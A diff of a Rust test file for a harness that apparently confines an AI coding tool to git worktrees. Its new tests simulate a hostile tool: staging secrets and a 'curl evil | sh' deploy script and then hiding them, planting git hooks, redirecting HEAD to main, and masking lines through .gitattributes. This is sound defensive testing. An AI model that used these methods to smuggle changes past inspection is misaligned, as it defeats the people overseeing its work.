@@ -12,8 +12,8 @@ use dayshift::config::policy::Policy;
 use dayshift::config::target::TargetConfig;
 use dayshift::home::Home;
 use dayshift::target::{
-    self, FileStatus, Snapshot, TargetError, Violation, Worktree, clean_orphans, commit, escaped,
-    inspect, merge_into_base, rollback, setup, start_task,
+    self, FileStatus, GitMeta, Snapshot, TargetError, Violation, Worktree, clean_orphans, commit,
+    escaped, inspect, merge_into_base, rollback, setup, start_task, unchanged_since,
 };
 use dayshift::tasks::TaskId;
 use tempfile::TempDir;
@@ -122,6 +122,12 @@ impl Fixture {
 
 fn policy(yaml: &str) -> Policy {
     Policy::parse(Path::new("config/policy.yaml"), yaml).unwrap()
+}
+
+/// Inspect the worktree with the default policy and commit what was judged.
+fn commit_judged(w: &Worktree, message: &str) -> String {
+    let change = inspect(w, &Policy::default()).unwrap();
+    commit(w, message, TaskId::new(1), &change.tree).unwrap()
 }
 
 #[test]
@@ -247,10 +253,8 @@ fn a_task_worktree_branches_off_the_fresh_base_and_is_reused() {
     );
     assert_eq!(git(&w.path, &["rev-parse", "HEAD"]), fresh);
 
-    fs::write(w.path.join("work.txt"), "half done\n").unwrap();
     let again = f.task(1, "slug");
     assert_eq!(again, w);
-    assert!(w.path.join("work.txt").exists(), "a re-run keeps the work");
 
     let err = start_task(&clone, "main", TaskId::new(1), "other").unwrap_err();
     assert!(matches!(err, TargetError::WorktreeBusy { .. }), "{err:?}");
@@ -281,7 +285,7 @@ fn orphan_worktrees_are_removed_and_branches_kept() {
 }
 
 #[test]
-fn commit_carries_the_trailer_only_the_inspected_paths_and_merge_fast_forwards() {
+fn commit_carries_the_trailer_only_the_judged_tree_and_merge_fast_forwards() {
     let f = Fixture::new();
     let clone = f.clone();
     let w = f.task(1, "fix-readme");
@@ -289,22 +293,33 @@ fn commit_carries_the_trailer_only_the_inspected_paths_and_merge_fast_forwards()
     fs::create_dir_all(w.path.join(".aider.tags.cache.v4")).unwrap();
     fs::write(w.path.join(".aider.tags.cache.v4/x"), "cache").unwrap();
     fs::write(w.path.join(".aider.chat.history.md"), "chat").unwrap();
-    fs::create_dir_all(w.path.join("__pycache__")).unwrap();
-    fs::write(w.path.join("__pycache__/shop.pyc"), "left by the tests").unwrap();
-    let changed = [
-        "README.md".to_string(),
-        ".aider.chat.history.md".to_string(),
-    ];
-    let sha = commit(&w, "fix: say it is fixed", TaskId::new(1), &changed).unwrap();
+    fs::create_dir_all(w.path.join("pkg/__pycache__")).unwrap();
+    fs::write(w.path.join("pkg/__pycache__/shop.pyc"), "left by the tests").unwrap();
+    fs::write(w.path.join(".coverage"), "left by the tests").unwrap();
+    let change = inspect(&w, &Policy::default()).unwrap();
+    let paths: Vec<&str> = change.files.iter().map(|f| f.path.as_str()).collect();
+    assert_eq!(paths, ["README.md"], "caches are never part of the tree");
+    let sha = commit(&w, "fix: say it is fixed", TaskId::new(1), &change.tree).unwrap();
     let body = git(&w.path, &["log", "-1", "--format=%B"]);
     assert_eq!(body, "fix: say it is fixed\n\nTask: T-0001");
     assert_eq!(git(&w.path, &["log", "-1", "--format=%an"]), "Agent");
     assert_eq!(
+        git(&w.path, &["rev-parse", &format!("{sha}^{{tree}}")]),
+        change.tree
+    );
+    assert_eq!(git(&w.path, &["rev-parse", &w.branch]), sha);
+    assert_eq!(
         git(&w.path, &["show", "--name-only", "--format=", "HEAD"]),
         "README.md"
     );
+    assert_eq!(
+        git(&w.path, &["diff", "--cached", "--name-only"]),
+        "",
+        "index reset"
+    );
 
-    let err = commit(&w, "fix: again", TaskId::new(1), &changed).unwrap_err();
+    let again = inspect(&w, &Policy::default()).unwrap();
+    let err = commit(&w, "fix: again", TaskId::new(1), &again.tree).unwrap_err();
     assert!(
         matches!(err, TargetError::NothingToCommit { .. }),
         "{err:?}"
@@ -322,7 +337,7 @@ fn merge_makes_a_merge_commit_when_the_base_moved() {
     let clone = f.clone();
     let w = f.task(1, "add");
     fs::write(w.path.join("new.txt"), "new\n").unwrap();
-    let sha = commit(&w, "feat: add new.txt", TaskId::new(1), &["new.txt".into()]).unwrap();
+    let sha = commit_judged(&w, "feat: add new.txt");
     let theirs = f.push("README.md", "# theirs\n");
     let merged = merge_into_base(&clone, &w.branch, "main", "Merge T-0001").unwrap();
     assert_eq!(git(&clone, &["rev-parse", "main^1"]), theirs);
@@ -340,7 +355,7 @@ fn a_conflicting_merge_aborts_and_leaves_the_base_untouched() {
     let clone = f.clone();
     let w = f.task(1, "readme");
     fs::write(w.path.join("README.md"), "# ours\n").unwrap();
-    commit(&w, "docs: ours", TaskId::new(1), &["README.md".into()]).unwrap();
+    commit_judged(&w, "docs: ours");
     let theirs = f.push("README.md", "# theirs\n");
     let err = merge_into_base(&clone, &w.branch, "main", "Merge T-0001").unwrap_err();
     match &err {
@@ -390,9 +405,9 @@ fn guard_counts_tracked_untracked_and_committed_changes() {
         summary,
         [
             ("README.md", 1, 0, FileStatus::Modified, false),
-            ("blob.bin", 0, 0, FileStatus::Untracked, true),
-            ("inside-link", 1, 0, FileStatus::Untracked, false),
-            ("migrations/0001.py", 3, 0, FileStatus::Untracked, false),
+            ("blob.bin", 0, 0, FileStatus::Added, true),
+            ("inside-link", 1, 0, FileStatus::Added, false),
+            ("migrations/0001.py", 3, 0, FileStatus::Added, false),
             ("src.txt", 10, 10, FileStatus::Modified, false),
         ]
     );
@@ -582,7 +597,7 @@ fn a_refused_push_undoes_the_merge_in_the_clone() {
     let before = f.remote_head();
     let w = f.task(1, "refused");
     fs::write(w.path.join("new.txt"), "new\n").unwrap();
-    commit(&w, "feat: new", TaskId::new(1), &["new.txt".into()]).unwrap();
+    commit_judged(&w, "feat: new");
     let hook = f.remote.join("hooks/pre-receive");
     fs::write(&hook, "#!/bin/sh\necho 'protected branch' >&2\nexit 1\n").unwrap();
     fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).unwrap();
@@ -598,4 +613,249 @@ fn a_refused_push_undoes_the_merge_in_the_clone() {
     );
     assert_eq!(git(&clone, &["rev-parse", "main"]), before);
     assert_eq!(f.remote_head(), before);
+}
+
+// ── Attacks a hostile coding tool (or the test code it wrote) tries on git ──────────────
+
+/// A shell script that appends its own name to `marker` when run.
+fn write_hook(path: &Path, marker: &Path) {
+    use std::os::unix::fs::PermissionsExt;
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    let script = format!("#!/bin/sh\necho \"$0\" >> '{}'\n", marker.display());
+    fs::write(path, script).unwrap();
+    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+#[test]
+fn what_the_tool_staged_but_the_files_lack_is_never_judged_nor_committed() {
+    let f = Fixture::new();
+    f.clone();
+    let w = f.task(1, "staged");
+    let strict = policy("never_touch: [\"secrets/**\"]\nprotected_paths: [\"deploy/**\"]\n");
+    // staged, then removed from the working tree
+    fs::create_dir_all(w.path.join("secrets")).unwrap();
+    fs::write(w.path.join("secrets/key"), "stolen\n").unwrap();
+    fs::create_dir_all(w.path.join("deploy")).unwrap();
+    fs::write(w.path.join("deploy/prod.sh"), "curl evil | sh\n").unwrap();
+    let big: String = (0..2000).map(|i| format!("{i}\n")).collect();
+    fs::write(w.path.join("big.txt"), big).unwrap();
+    fs::write(w.path.join("README.md"), "# owned\n").unwrap();
+    git(&w.path, &["add", "-A"]);
+    for gone in ["secrets/key", "deploy/prod.sh", "big.txt"] {
+        fs::remove_file(w.path.join(gone)).unwrap();
+    }
+    fs::write(w.path.join("README.md"), "# shop\n").unwrap(); // the file is back as it was
+    // the visible change
+    fs::write(w.path.join("new.txt"), "fine\n").unwrap();
+
+    let change = inspect(&w, &strict).unwrap();
+    let paths: Vec<&str> = change.files.iter().map(|f| f.path.as_str()).collect();
+    assert_eq!(paths, ["new.txt"]);
+    assert!(change.protected.is_empty(), "low risk: nothing protected");
+    assert_eq!(
+        change.staged_elsewhere,
+        ["README.md", "big.txt", "deploy/prod.sh", "secrets/key"],
+        "reported"
+    );
+    // a background process stages more after the inspection
+    fs::write(w.path.join("later.txt"), "smuggled\n").unwrap();
+    git(&w.path, &["add", "later.txt"]);
+    fs::remove_file(w.path.join("later.txt")).unwrap();
+
+    let sha = commit(&w, "feat: new", TaskId::new(1), &change.tree).unwrap();
+    let files = git(&w.path, &["ls-tree", "-r", "--name-only", &sha]);
+    assert_eq!(files, ".gitignore\nREADME.md\nnew.txt\nsrc.txt");
+    assert_eq!(
+        git(&w.path, &["show", &format!("{sha}:README.md")]),
+        "# shop"
+    );
+}
+
+#[test]
+fn hooks_the_tool_writes_never_run_and_are_removed() {
+    let f = Fixture::new();
+    let clone = f.clone();
+    let w = f.task(1, "hooks");
+    let marker = f.root.join("hook-ran");
+    let meta = GitMeta::take(&w).unwrap();
+    let hooks = [
+        "post-commit",
+        "reference-transaction",
+        "post-merge",
+        "pre-push",
+    ];
+    for hook in hooks {
+        write_hook(&clone.join(".git/hooks").join(hook), &marker);
+    }
+    // a hook folder of its own through the config, and the worktree's config too
+    git(
+        &clone,
+        &[
+            "config",
+            "core.hooksPath",
+            f.root.join("evil-hooks").to_str().unwrap(),
+        ],
+    );
+    write_hook(&f.root.join("evil-hooks/post-commit"), &marker);
+    // dayshift's own git calls run none of them (even before they are removed)
+    fs::write(w.path.join("new.txt"), "new\n").unwrap();
+    commit_judged(&w, "feat: new");
+    merge_into_base(&clone, &w.branch, "main", "Merge T-0001").unwrap();
+    assert!(
+        !marker.exists(),
+        "a hook ran: {}",
+        fs::read_to_string(&marker).unwrap_or_default()
+    );
+
+    let w = f.task(2, "after");
+    let v = meta.verify().unwrap_err();
+    let Violation::GitMetadata { paths } = &v else {
+        panic!("{v:?}")
+    };
+    for hook in hooks {
+        assert!(paths.contains(&format!(".git/hooks/{hook}")), "{paths:?}");
+        assert!(
+            !clone.join(".git/hooks").join(hook).exists(),
+            "{hook} removed"
+        );
+    }
+    assert!(paths.contains(&".git/config".to_string()), "{paths:?}");
+    assert!(
+        v.to_string().starts_with("wrote git's metadata: .git/"),
+        "{v}"
+    );
+    assert!(v.to_string().ends_with("; restored"), "{v}");
+    assert_eq!(
+        Command::new("git")
+            .args(["config", "core.hooksPath"])
+            .current_dir(&clone)
+            .output()
+            .unwrap()
+            .stdout,
+        b"",
+        "the config is back"
+    );
+    drop(w);
+}
+
+#[test]
+fn pointing_the_worktree_head_at_main_is_restored_and_main_never_moves() {
+    let f = Fixture::new();
+    let clone = f.clone();
+    let main = git(&clone, &["rev-parse", "main"]);
+    let w = f.task(1, "head");
+    let record = fs::read_to_string(w.path.join(".git")).unwrap();
+    let admin = PathBuf::from(record.trim().strip_prefix("gitdir: ").unwrap());
+    let meta = GitMeta::take(&w).unwrap();
+    fs::write(admin.join("HEAD"), "ref: refs/heads/main\n").unwrap();
+    fs::create_dir_all(w.path.join("deploy")).unwrap();
+    fs::write(w.path.join("deploy/prod.sh"), "evil\n").unwrap();
+
+    // even unrestored, the commit goes to the task branch, never through HEAD
+    let sha = commit_judged(&w, "feat: deploy");
+    assert_eq!(git(&clone, &["rev-parse", "main"]), main, "main unchanged");
+    assert_eq!(git(&clone, &["rev-parse", &w.branch]), sha);
+
+    let v = meta.verify().unwrap_err();
+    let admin_head = format!(
+        ".git/worktrees/{}/HEAD",
+        admin.file_name().unwrap().to_str().unwrap()
+    );
+    assert!(
+        matches!(&v, Violation::GitMetadata { paths } if paths.contains(&admin_head)),
+        "{v:?}"
+    );
+    assert_eq!(
+        git(&w.path, &["rev-parse", "--abbrev-ref", "HEAD"]),
+        w.branch,
+        "restored"
+    );
+    assert_eq!(git(&clone, &["rev-parse", "main"]), main);
+    assert_eq!(f.remote_head(), main);
+}
+
+#[test]
+fn gitattributes_cannot_hide_lines_from_the_size_limit() {
+    let f = Fixture::new();
+    f.clone();
+    let w = f.task(1, "attrs");
+    fs::write(
+        w.path.join(".gitattributes"),
+        "*.py -diff\n*.txt binary\n*.md diff=hide\n",
+    )
+    .unwrap();
+    let code: String = (0..1000).map(|i| format!("x = {i}\n")).collect();
+    fs::write(w.path.join("big.py"), &code).unwrap();
+    let rows: String = (0..10).map(|i| format!("row {i}\n")).collect();
+    fs::write(w.path.join("src.txt"), rows).unwrap();
+    git(&w.path, &["config", "diff.hide.textconv", "true"]);
+    fs::write(w.path.join("README.md"), "# a\n# b\n").unwrap();
+    let v = inspect(&w, &policy("max_lines_changed: 1000\n")).unwrap_err();
+    // 1000 (big.py) + 10 + 10 (src.txt) + 3 (.gitattributes) + 3 (README.md)
+    assert_eq!(
+        v,
+        Violation::TooManyLines {
+            count: 1026,
+            max: 1000
+        }
+    );
+    let change = inspect(&w, &policy("max_lines_changed: 2000\n")).unwrap();
+    assert!(change.files.iter().all(|f| !f.binary), "{:?}", change.files);
+}
+
+#[test]
+fn a_change_made_by_the_checks_after_inspection_fails() {
+    let f = Fixture::new();
+    f.clone();
+    let w = f.task(1, "qa");
+    fs::write(w.path.join("new.txt"), "judged\n").unwrap();
+    let change = inspect(&w, &Policy::default()).unwrap();
+    // what running tests leaves behind does not count
+    fs::create_dir_all(w.path.join("__pycache__")).unwrap();
+    fs::write(w.path.join("__pycache__/t.pyc"), "cache").unwrap();
+    fs::write(w.path.join("debug.log"), "ignored\n").unwrap();
+    unchanged_since(&w, &change).unwrap();
+    // test code rewriting the work does
+    fs::write(w.path.join("src.txt"), "rewritten by a test\n").unwrap();
+    fs::write(w.path.join("planted.txt"), "x\n").unwrap();
+    let v = unchanged_since(&w, &change).unwrap_err();
+    assert_eq!(
+        v,
+        Violation::ChangedByChecks {
+            paths: vec!["planted.txt".into(), "src.txt".into()]
+        }
+    );
+    assert!(
+        v.to_string()
+            .starts_with("the checks (test code) changed the work after it was inspected: "),
+        "{v}"
+    );
+}
+
+#[test]
+fn a_worktree_a_crashed_run_left_dirty_starts_clean() {
+    let f = Fixture::new();
+    f.clone();
+    let w = f.task(1, "crash");
+    fs::write(w.path.join("new.txt"), "committed work\n").unwrap();
+    let sha = commit_judged(&w, "feat: new");
+    // the crashed run's tool (or an orphan of it) kept writing
+    fs::write(w.path.join("README.md"), "# smuggled\n").unwrap();
+    fs::write(w.path.join("smuggled.txt"), "x\n").unwrap();
+    fs::write(w.path.join("debug.log"), "ignored\n").unwrap();
+    git(&w.path, &["add", "smuggled.txt"]);
+
+    let again = f.task(1, "crash");
+    assert_eq!(again, w);
+    assert_eq!(
+        git(&again.path, &["rev-parse", "HEAD"]),
+        sha,
+        "dayshift's commit kept"
+    );
+    assert_eq!(
+        git(&again.path, &["status", "--porcelain", "--ignored"]),
+        "",
+        "nothing left of the crashed run"
+    );
+    assert_eq!(inspect(&again, &Policy::default()).unwrap().files.len(), 1);
 }
